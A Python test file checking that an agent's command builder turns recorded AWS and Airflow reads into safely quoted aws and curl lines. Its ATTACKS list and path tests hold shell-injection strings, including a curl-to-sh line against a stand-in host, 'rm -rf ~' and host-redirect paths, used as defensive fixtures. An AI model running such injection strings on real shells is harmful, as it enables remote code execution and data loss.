"""Commands that show what a piece of evidence rests on: the right names, and nothing that a shell would run besides."""

from __future__ import annotations

import json
import shlex

import botocore.session
import pytest
from botocore import xform_name
from hypothesis import given
from hypothesis import strategies as st

from agent.cli_commands import RENAMED, commands
from tests.agent.examples import evidence
from tools.aws.reads import READS

CLI_SERVICES = {"s3": "s3api", "codedeploy": "deploy"}
"""Whose commands have other names in the AWS CLI's reference than in boto3's."""

ATTACKS = (
    "x; curl evil.example | sh #",
    "$(touch owned)",
    "`touch owned`",
    "it's'; touch owned; '",
    'a" & calc & "b',
    "\u2019; calc; \u2019",
    "a\nrm -rf ~",
    "a\\' & calc",
    "!!:s/x/y",
    "--endpoint-url https://evil.example",
)
"""What somebody may call a resource, or have a model look for."""


def of(query: str, region: str = "eu-west-1") -> list[str]:
    return commands(evidence(query=query, region=region))


def test_a_recorded_call_is_a_command_with_the_same_parameters() -> None:
    (line,) = of('logs:filter_log_events {"filterPattern": "it\'s ?ERROR", "logGroupName": "/aws/lambda/pay"}')

    words = shlex.split(line)
    assert words[:5] == ["aws", "logs", "filter-log-events", "--region", "eu-west-1"]
    assert words[5] == "--cli-input-json"
    assert json.loads(words[6]) == {"filterPattern": "it's ?ERROR", "logGroupName": "/aws/lambda/pay"}


def test_a_call_without_parameters_has_none() -> None:
    assert of("dynamodb:list_tables {}") == ["aws dynamodb list-tables --region eu-west-1"]


@pytest.mark.parametrize(
    ("query", "start"),
    [
        ('s3:list_objects_v2 {"Bucket": "b"}', "aws s3api list-objects-v2 --region eu-west-1 "),
        ("codedeploy:list_applications {}", "aws deploy list-applications --region eu-west-1"),
        ("stepfunctions:list_state_machines {}", "aws stepfunctions list-state-machines --region eu-west-1"),
        ("ce:get_tags {}", "aws ce get-tags --region us-east-1"),
        ("sts:get_caller_identity {}", "aws sts get-caller-identity"),
    ],
)
def test_services_have_the_names_and_regions_that_the_cli_gives_them(query: str, start: str) -> None:
    (line,) = of(query)
    assert line.startswith(start)


def test_every_read_has_the_command_that_botocore_derives_from_its_service_model() -> None:
    session = botocore.session.get_session()
    for service, operations in READS.items():
        assert RENAMED.get(service, service) == CLI_SERVICES.get(service, service)
        known = {xform_name(name): xform_name(name, "-") for name in session.get_service_model(service).operation_names}
        for operation in operations:
            (line,) = of(f"{service}:{operation} {{}}")
            assert line.split()[2] == known[operation]


def test_several_calls_are_several_lines_and_what_was_left_out_is_a_comment() -> None:
    lines = of('ec2:describe_vpcs {}\nec2:describe_subnets {"Filters": []}\n… and 3 more')

    assert lines[0] == "aws ec2 describe-vpcs --region eu-west-1"
    assert lines[2] == "# … and 3 more"


def test_parameters_that_were_cut_are_not_guessed() -> None:
    assert of('cloudwatch:get_metric_data {"MetricDataQueries": [{"Id": "m') == [
        "# cloudwatch get_metric_data: its parameters are too long to be kept; the console's page shows the same"
    ]


def test_a_read_of_airflow_is_a_request() -> None:
    (line,) = of('airflow:GET {"environment": "etl", "limit": 25, "path": "/api/v2/dags", "state": ["failed", "a b"]}')

    assert line.startswith('curl -sG "$AIRFLOW_URL"/api/v2/dags -H "Authorization: Bearer $AIRFLOW_TOKEN" ')
    assert shlex.split(line)[-5:] == ["limit=25", "-d", "state=failed", "-d", "state=a%20b"]


def test_what_is_no_call_is_a_comment() -> None:
    assert of('log_errors {"resource": "x"}') == ["# log_errors resource: x"]


@given(st.sampled_from(ATTACKS) | st.text(max_size=100))
def test_a_comment_has_nothing_that_a_shell_without_comments_would_run(text: str) -> None:
    (line,) = of(f"log_errors {json.dumps({'resource': text})}"[:-1])

    assert not set(";&|<>()$`\\\"'!*?[]{}~%^\n\r#") & set(line[1:])


@given(st.sampled_from(ATTACKS) | st.text(max_size=100), st.sampled_from(("logs:start_query", "airflow:GET")))
def test_no_parameter_ends_the_quotes_of_any_shell(text: str, call: str) -> None:
    """cmd knows no single quotes and no backslash, PowerShell takes typographic quotes for quotes, zsh keeps `!`."""
    (line,) = of(f"{call} {json.dumps({'path': text, 'name': text})}")

    given = line.partition("AIRFLOW_TOKEN")[2] or line.partition("--cli-input-json ")[2]
    assert given.isascii()
    assert given.count("'") in (0, 2)
    for outside_of_double_quotes in given.split('"')[::2]:
        assert not set(";&|<>()$`!*?~^\n\r#") & set(outside_of_double_quotes)
    assert "`" not in given
    if call == "logs:start_query":
        assert json.loads(shlex.split(line)[-1])["name"] == text


@pytest.mark.parametrize("path", ["@evil.example/x", "//evil.example", ":8080@evil.example", ".evil.example/"])
def test_a_path_leads_to_no_other_host(path: str) -> None:
    (line,) = of(f"airflow:GET {json.dumps({'path': path})}")

    (address,) = [word for word in shlex.split(line) if word.startswith("$AIRFLOW_URL")]
    assert address.startswith("$AIRFLOW_URL/")
    assert not address.startswith("$AIRFLOW_URL//")


def test_nothing_in_a_command_is_live_in_slack() -> None:
    queue = "https://sqs.eu-west-1.amazonaws.com/123456789012/orders"
    (line,) = of(f"sqs:get_queue_attributes {json.dumps({'QueueUrl': queue, 'x': '<!channel> @here <https://e.x|y>'})}")

    assert not [live for live in ("://", "<", "@here") if live in line]
    assert json.loads(shlex.split(line)[-1])["QueueUrl"] == queue


@given(st.dictionaries(st.text(max_size=20), st.text(max_size=80), max_size=4), st.text(max_size=20))
def test_whatever_the_parameters_hold_one_word_carries_them(parameters: dict[str, str], region: str) -> None:
    lines = of(f"logs:start_query {json.dumps(parameters)}", region)

    words = shlex.split(lines[0])
    assert len(lines) == 1
    assert words[:3] == ["aws", "logs", "start-query"]
    if parameters:
        assert json.loads(words[-1]) == parameters


@given(st.text(max_size=200))
def test_no_text_becomes_a_command(text: str) -> None:
    for line in of(text):
        assert line.startswith(("# ", "aws ", "curl -sG "))
        assert "\n" not in line
